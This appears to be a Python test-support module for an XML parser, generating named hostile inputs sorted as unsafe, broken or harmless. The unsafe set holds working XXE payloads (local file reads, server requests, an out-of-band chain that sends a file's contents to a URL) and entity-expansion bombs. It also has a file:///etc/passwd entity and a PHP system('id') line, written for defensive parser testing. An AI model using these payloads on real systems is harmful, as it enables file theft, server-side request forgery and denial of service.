"""Hostile XML: what each is after is the secret's file or the server."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from support.hostile_rasters import Prey

Make = Callable[[Prey], bytes]


def _doctype(subset: str, body: str = "<x>&a;</x>", *, encoding: str = "utf-8") -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x {subset}>{body}'.encode(encoding)


LAUGHS = '[<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + '<!ENTITY a "&a9;">]'
UNSAFE: Mapping[str, Make] = {
    "billion laughs": lambda _: _doctype(LAUGHS),
    "quadratic blow-up": lambda _: _doctype(f'[<!ENTITY a "{"a" * 100_000}">]', f"<x>{'&a;' * 100_000}</x>"),
    "entity of a file": lambda prey: _doctype(f'[<!ENTITY a SYSTEM "file://{prey.file}">]'),
    "entity of a path": lambda prey: _doctype(f'[<!ENTITY a SYSTEM "{prey.file}">]'),
    "entity of a server": lambda prey: _doctype(f'[<!ENTITY a SYSTEM "{prey.url}">]'),
    "public entity": lambda prey: _doctype(f'[<!ENTITY a PUBLIC "-//A//B" "{prey.url}">]'),
    "parameter entity of a server": lambda prey: _doctype(f'[<!ENTITY % a SYSTEM "{prey.url}"> %a;]', "<x/>"),
    "parameter entity that makes another": lambda prey: _doctype(
        f'[<!ENTITY % f SYSTEM "file://{prey.file}"><!ENTITY % a "<!ENTITY &#37; s SYSTEM \'{prey.url}?%f;\'>"> %a; %s;]', "<x/>"
    ),
    "external DTD of a server": lambda prey: _doctype(f'SYSTEM "{prey.url}"', "<x/>"),
    "external DTD of a file": lambda prey: _doctype(f'SYSTEM "file://{prey.file}"', "<x/>"),
    "public DTD": lambda prey: _doctype(f'PUBLIC "-//W3C//DTD" "{prey.url}"', "<x/>"),
    "entity that is itself": lambda _: _doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]'),
    "entity in an attribute": lambda _: _doctype('[<!ENTITY a "b">]', '<x y="&a;"/>'),
    "default attribute": lambda _: _doctype('[<!ATTLIST x y CDATA "z">]', "<x/>"),
    "unparsed entity": lambda prey: _doctype(f'[<!NOTATION n SYSTEM "n"><!ENTITY a SYSTEM "{prey.url}" NDATA n>]', "<x/>"),
    "notation": lambda prey: _doctype(f'[<!NOTATION n SYSTEM "{prey.url}">]', "<x/>"),
    "DTD in UTF-16": lambda prey: _doctype(f'[<!ENTITY a SYSTEM "{prey.url}">]', encoding="utf-16"),
    "DTD in UTF-16 without mark": lambda prey: _doctype(f'[<!ENTITY a SYSTEM "{prey.url}">]', encoding="utf-16-be").replace(
        b"\0-\0b\0e", b"", 1
    ),
    "DTD behind a byte order mark": lambda prey: b"\xef\xbb\xbf" + _doctype(f'[<!ENTITY a SYSTEM "{prey.url}">]'),
    "DTD in Latin 1": lambda prey: _doctype(f'[<!ENTITY a SYSTEM "{prey.url}">]', encoding="latin-1"),
    "DTD of nothing": lambda _: b"<!DOCTYPE x><x/>",
    "two million elements": lambda _: b"<x>" + b"<a/>" * 2_000_001 + b"</x>",
    "two million attributes": lambda _: b"<x " + b" ".join(b'a%d=""' % n for n in range(2_000_001)) + b"/>",
    "larger than any": lambda _: b"<x>" + b" " * (64 << 20) + b"</x>",
}
BROKEN: Mapping[str, Make] = {
    "DTD in UTF-7": lambda prey: f'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE x SYSTEM "{prey.url}"+AD4APA-x/+AD4-'.encode(),
    "DTD in EBCDIC": lambda prey: f'<?xml version="1.0" encoding="cp037"?><!DOCTYPE x SYSTEM "{prey.url}"><x/>'.encode("cp037"),
    "DTD in UTF-32": lambda prey: _doctype(f'SYSTEM "{prey.url}"', "<x/>", encoding="utf-32"),
    "DTD in small letters": lambda prey: f'<!doctype x SYSTEM "{prey.url}"><x/>'.encode(),
    "DTD behind the root": lambda prey: f'<x/><!DOCTYPE x SYSTEM "{prey.url}">'.encode(),
    "entity that nobody declared": lambda _: b"<x>&a;</x>",
    "no such character": lambda _: b"<x>&#x110000;</x>",
    "a NUL": lambda _: b"<x>\0</x>",
    "two roots": lambda _: b"<x/><y/>",
    "overlong UTF-8": lambda _: b"<x>\xc0\xbc</x>",
    "the same attribute twice": lambda _: b'<x a="1" a="2"/>',
    "no name space": lambda _: b"<a:x/>",
    "not closed": lambda _: b"<x>" * 1000,
    "unknown encoding": lambda _: b'<?xml version="1.0" encoding="klingon"?><x/>',
}
HARMLESS: Mapping[str, Make] = {
    "XInclude": lambda prey: f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{prey.file}" parse="text"/></x>'.encode(),
    "XInclude of a server": lambda prey: f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{prey.url}"/></x>'.encode(),
    "schema of a server": lambda prey: (
        f'<x xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="{prey.url}"/>'.encode()
    ),
    "style sheet": lambda prey: f'<?xml-stylesheet href="{prey.url}"?><?php system("id") ?><x/>'.encode(),
    "name space of a server": lambda prey: f'<x xmlns="{prey.url}"/>'.encode(),
    "entity in CDATA": lambda _: b'<x><![CDATA[<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;]]></x>',
    "entity in a comment": lambda _: b'<x><!-- <!DOCTYPE a [<!ENTITY b "c">]> --></x>',
    "deep": lambda _: b"<a>" * 200_000 + b"</a>" * 200_000,
    "one attribute of 20 MB": lambda _: b'<x a="' + b"y" * (20 << 20) + b'"/>',
    "ten thousand name spaces": lambda _: b"<x " + b" ".join(b'xmlns:a%d="u%d"' % (n, n) for n in range(10_000)) + b"/>",
    "a name of one megabyte": lambda _: b"<" + b"a" * (1 << 20) + b"/>",
}
"""Read for what it is: nothing is included, called or run."""
